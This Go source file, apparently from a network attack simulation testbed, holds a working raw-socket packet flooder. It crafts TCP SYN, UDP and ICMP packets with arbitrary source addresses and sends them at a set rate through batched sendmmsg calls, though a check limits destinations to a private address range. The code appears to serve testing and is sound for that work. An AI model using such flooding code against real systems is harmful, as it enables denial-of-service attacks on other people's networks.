package attackers

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const (
	// batch is how many packets are given to the kernel at once.
	batch = 64
	// packetSize is the largest packet that is made.
	packetSize = 1200

	flagSYN = 0x02
	flagACK = 0x10
)

// message is the kernel's struct mmsghdr.
type message struct {
	header unix.Msghdr
	sent   uint32
}

// blast sends packets as fast as rate says, in packets a second, until the attack ends. next writes one, with its IPv4 header, and gives
// its length.
func (s *scene) blast(rate int, next func(b []byte) int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("no raw socket: %w; wanted the capability CAP_NET_RAW", err)
	}
	defer func() { _ = unix.Close(fd) }()
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUFFORCE, 4<<20)
	var (
		buffers  [batch][packetSize]byte
		names    [batch]unix.RawSockaddrInet4
		vectors  [batch]unix.Iovec
		messages [batch]message
	)
	for i := range messages {
		names[i].Family = unix.AF_INET
		vectors[i].Base = &buffers[i][0]
		h := &messages[i].header
		h.Name, h.Namelen = (*byte)(unsafe.Pointer(&names[i])), unix.SizeofSockaddrInet4
		h.Iov = &vectors[i]
		h.SetIovlen(1)
	}
	began, last, due, total := time.Now(), time.Now(), 0.0, int64(0)
	for !s.over() {
		now := time.Now()
		// What could not be sent in time is not made up for later: a twentieth of a second's packets at most.
		due, last = min(due+now.Sub(last).Seconds()*float64(rate), float64(rate)/20+1), now
		n := min(int(due), batch)
		if n == 0 {
			time.Sleep(500 * time.Microsecond)
			continue
		}
		for i := range n {
			vectors[i].SetLen(next(buffers[i][:]))
			names[i].Addr = [4]byte(buffers[i][16:20])
			if !private.Contains(netip.AddrFrom4(names[i].Addr)) {
				return fmt.Errorf("a packet to %v, which is outside of %v", netip.AddrFrom4(names[i].Addr), private)
			}
		}
		sent, err := sendAll(fd, messages[:n])
		due -= float64(max(sent, 1))
		total += int64(sent)
		s.sent.Add(int64(sent))
		if err != nil {
			return fmt.Errorf("after %d packets: %w", total, err)
		}
	}
	s.say("%d packets in 1 s", int(float64(total)/max(time.Since(began).Seconds(), 0.001)))
	return nil
}

// sendAll gives the kernel as many as it takes.
func sendAll(fd int, messages []message) (int, error) {
	n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&messages[0])), uintptr(len(messages)), 0, 0, 0)
	switch {
	case errno == 0:
		return int(n), nil
	case errors.Is(errno, unix.EAGAIN), errors.Is(errno, unix.ENOBUFS), errors.Is(errno, unix.EINTR):
		return 0, nil
	}
	return 0, os.NewSyscallError("sendmmsg", errno)
}

// ipv4 writes a header of 20 bytes. The kernel sets its sum.
func ipv4(b []byte, length int, protocol byte, from, to [4]byte, id uint16) {
	b[0], b[1] = 0x45, 0
	binary.BigEndian.PutUint16(b[2:], uint16(length))
	// Never 0, which has the kernel look for one; not to be fragmented.
	binary.BigEndian.PutUint16(b[4:], id|1)
	b[6], b[7], b[8], b[9], b[10], b[11] = 0x40, 0, 64, protocol, 0, 0
	copy(b[12:], from[:])
	copy(b[16:], to[:])
}

// tcp writes a segment without data; a SYN says its largest segment size, as all systems do.
func tcp(b []byte, from, to [4]byte, fromPort, toPort uint16, sequence, acknowledges uint32, flags byte) int {
	length := 40
	if flags&flagSYN != 0 {
		length = 44
		copy(b[40:], []byte{2, 4, 0x05, 0xb4})
	}
	ipv4(b, length, unix.IPPROTO_TCP, from, to, uint16(sequence))
	t := b[20:length]
	binary.BigEndian.PutUint16(t[0:], fromPort)
	binary.BigEndian.PutUint16(t[2:], toPort)
	binary.BigEndian.PutUint32(t[4:], sequence)
	binary.BigEndian.PutUint32(t[8:], acknowledges)
	t[12], t[13] = byte(len(t)/4)<<4, flags
	binary.BigEndian.PutUint16(t[14:], 64240)
	copy(t[16:20], []byte{0, 0, 0, 0})
	binary.BigEndian.PutUint16(t[16:], sum(t, pseudo(b, len(t))))
	return length
}

// udp writes a datagram with zeros in it, and without a sum, which UDP allows.
func udp(b []byte, from, to [4]byte, fromPort, toPort uint16, data int) int {
	length := 28 + data
	ipv4(b, length, unix.IPPROTO_UDP, from, to, fromPort)
	binary.BigEndian.PutUint16(b[20:], fromPort)
	binary.BigEndian.PutUint16(b[22:], toPort)
	binary.BigEndian.PutUint16(b[24:], uint16(8+data))
	b[26], b[27] = 0, 0
	clear(b[28:length])
	return length
}

// echo writes an ICMP echo request.
func echo(b []byte, from, to [4]byte, id uint16, data int) int {
	length := 28 + data
	ipv4(b, length, unix.IPPROTO_ICMP, from, to, id)
	clear(b[20:length])
	b[20] = 8
	binary.BigEndian.PutUint16(b[24:], id)
	binary.BigEndian.PutUint16(b[22:], sum(b[20:length], 0))
	return length
}

// pseudo is the sum of what TCP adds of the IP header.
func pseudo(b []byte, length int) uint32 {
	total := uint32(b[9]) + uint32(length)
	for i := 12; i < 20; i += 2 {
		total += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	return total
}

// sum is the internet's checksum.
func sum(b []byte, total uint32) uint16 {
	for ; len(b) > 1; b = b[2:] {
		total += uint32(binary.BigEndian.Uint16(b))
	}
	if len(b) == 1 {
		total += uint32(b[0]) << 8
	}
	for total > 0xffff {
		total = total>>16 + total&0xffff
	}
	return ^uint16(total)
}
